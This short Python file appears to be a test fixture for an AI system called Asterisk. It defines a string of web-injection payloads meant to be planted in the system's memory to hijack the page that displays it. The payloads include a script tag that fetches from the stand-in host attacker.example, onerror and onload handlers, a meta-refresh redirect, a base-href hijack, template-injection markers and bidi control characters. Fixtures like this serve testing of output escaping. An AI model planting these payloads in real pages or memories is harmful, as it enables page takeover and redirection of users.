"""Text that an attacker puts into the memory of Asterisk, to take over the page that shows it."""

ATTACKER = "attacker.example"

HOSTILE = (
    f"</pre></details><script>document.title='owned';fetch('http://{ATTACKER}/script')</script>"
    f'"><img src="http://{ATTACKER}/image" onerror="document.title=\'owned\'">'
    f"<svg onload=\"document.title='owned'\"><style>@import 'http://{ATTACKER}/style';body{{display:none}}</style>"
    f'<meta http-equiv="refresh" content="0;url=http://{ATTACKER}/refresh"><base href="http://{ATTACKER}/">'
    f'<link rel="stylesheet" href="http://{ATTACKER}/link"><iframe src="javascript:document.title=\'owned\'">'
    f"{{{{ 7 * 191 }}}}{{% raw %}}&lt;b&gt;&#x202e;\x1b[2J\u202e<!--"
)
"""Every way to run a script, to send a request, or to change what is shown: markup, and the template's language."""
